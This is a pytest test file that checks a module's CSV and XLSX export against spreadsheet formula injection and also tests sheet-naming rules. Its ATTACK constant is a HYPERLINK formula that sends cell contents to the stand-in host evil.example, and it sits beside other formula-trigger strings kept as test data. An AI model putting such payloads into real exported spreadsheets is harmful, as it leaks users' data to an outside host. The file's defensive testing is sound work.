import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from core import tables

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
DANGEROUS = [ATTACK, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=1+1"]


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def read_xlsx(body: bytes):
    return load_workbook(io.BytesIO(body)).active


@pytest.mark.parametrize("value", DANGEROUS)
def test_csv_marks_text_that_a_spreadsheet_would_run(value):
    cell = read_csv(tables.csv_text([[value]]))[0][0]

    assert cell == "'" + value


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_marked_csv_cell_reads_back_as_written(value):
    cell = read_csv(tables.csv_text([[value]]))[0][0]

    assert tables.read_csv_cell(cell) == value


def test_csv_leaves_other_text_and_numbers_as_they_are():
    rows = read_csv(tables.csv_text([["Łucja WĄSOWSKA", "a=b", "'quoted'", -3, 4]]))

    assert rows == [["Łucja WĄSOWSKA", "a=b", "'quoted'", "-3", "4"]]


def test_reading_leaves_a_leading_quote_that_marks_nothing():
    assert tables.read_csv_cell("'quoted'") == "'quoted'"


# (XML reads a carriage return as a line feed: that one is left out here.)
@pytest.mark.parametrize("value", [value for value in DANGEROUS if "\r" not in value])
def test_xlsx_stores_text_as_a_string_never_a_formula(value):
    cell = read_xlsx(tables.xlsx_bytes([[value]], "Registrations"))["A1"]

    assert (cell.data_type, cell.value) == ("s", value)


def test_xlsx_keeps_numbers_dates_and_booleans():
    sheet = read_xlsx(tables.xlsx_bytes([[3, True, date(2025, 1, 27), None]], "Plan"))

    number, boolean, day = (cell.value for cell in sheet[1][:3])
    assert (number, boolean, day.date()) == (3, True, date(2025, 1, 27))


def test_xlsx_drops_control_characters_that_xml_cannot_hold():
    sheet = read_xlsx(tables.xlsx_bytes([["Amina\x01 Haddad"]], "Registrations"))

    assert sheet["A1"].value == "Amina Haddad"


def test_xlsx_sheet_name_is_cut_to_what_excel_takes():
    book = load_workbook(io.BytesIO(tables.xlsx_bytes([["x"]], "R" * 40)))

    assert book.sheetnames == ["R" * 31]


def test_xlsx_sheets_makes_a_sheet_of_each_title_and_its_rows():
    body = tables.xlsx_sheets([("Statements", [["=1+1"]]), ("Per delegation", [[1, "x"]])])

    book = load_workbook(io.BytesIO(body))
    assert book.sheetnames == ["Statements", "Per delegation"]
    assert book["Statements"]["A1"].data_type == "s"
    assert book["Per delegation"]["A1"].value == 1


def test_xlsx_sheet_name_loses_the_characters_excel_refuses():
    book = load_workbook(io.BytesIO(tables.xlsx_bytes([["x"]], "Item 3: a/b [c]?")))

    assert book.sheetnames == ["Item 3  a b  c  "]


def test_xlsx_gives_two_sheets_of_one_title_two_names():
    book = load_workbook(io.BytesIO(tables.xlsx_sheets([("Day 1", [[1]]), ("day 1", [[2]])])))

    assert book.sheetnames == ["Day 1", "day 1 (1)"]
    assert book["day 1 (1)"]["A1"].value == 2
